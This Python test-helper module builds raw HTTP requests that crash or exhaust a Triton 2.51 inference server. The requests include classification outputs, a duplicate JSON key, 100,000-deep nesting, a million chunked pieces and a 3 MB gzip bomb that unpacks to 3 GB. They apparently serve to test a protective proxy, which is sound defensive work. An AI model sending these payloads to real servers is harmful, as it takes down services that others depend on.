"""Small requests that end Triton 2.51, or fill its memory: by HTTP, each a request as bytes on a connection.

`NAMES` are all of them; `test_killers.py` sends them to the proxy, and, if it is asked for slow tests, to Triton.
"""

import json
import socket
import zlib
from contextlib import suppress

from proxied import body

CRLF = b"\r\n"


def killer(name: str) -> bytes:
    """The request as it goes through the socket."""
    if name == "classification of text":
        return _post(json.dumps(body(outputs=[_ranked()])).encode())
    if name == "classification behind an equal key":
        plain = json.dumps(body(outputs=[_ranked()])).encode()
        return _post(plain[:-1] + b', "outputs": []}')
    if name == "deep nesting":
        return _post(json.dumps(body()).encode().replace(b"[0.5, 0.25]", b"[" * 100_000 + b"]" * 100_000))
    if name == "a million chunks":
        return _post(None, b"Transfer-Encoding: chunked") + (b"1\r\n \r\n" * 1_000_000) + b"0\r\n\r\n"
    if name == "3 MB that unpack to 3 GB":
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        first, again = (packer.compress(b" " * (1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
        return _post(first + 191 * again, b"Content-Encoding: gzip")
    raise ValueError(name)


# name -> whether Triton ends by it; what unpacks to 3 GB keeps it busy for a minute and stays in its memory
NAMES = {
    "classification of text": True,
    "classification behind an equal key": True,
    "deep nesting": True,
    "a million chunks": True,
    "3 MB that unpack to 3 GB": False,
}


def send(address: str, request: bytes, timeout_s: float = 30) -> bytes:
    """What comes back, b"" if the connection is closed without a word."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout_s) as connection:
        answer = b""
        with suppress(OSError):  # the answer may have come before the request was read
            connection.sendall(request)
        with suppress(OSError):
            while (part := connection.recv(65536)) and b'"}' not in (answer := answer + part):
                pass
        return answer


def _ranked() -> dict[str, object]:
    return {"name": "TRANSCRIPTS", "parameters": {"classification": 1}}


def _post(content: bytes | None, *headers: bytes) -> bytes:
    lines = [b"POST /v2/models/count/infer HTTP/1.1", b"Host: x", *headers]
    if content is not None:
        lines.append(b"Content-Length: %d" % len(content))
    return CRLF.join(lines) + CRLF + CRLF + (content or b"")
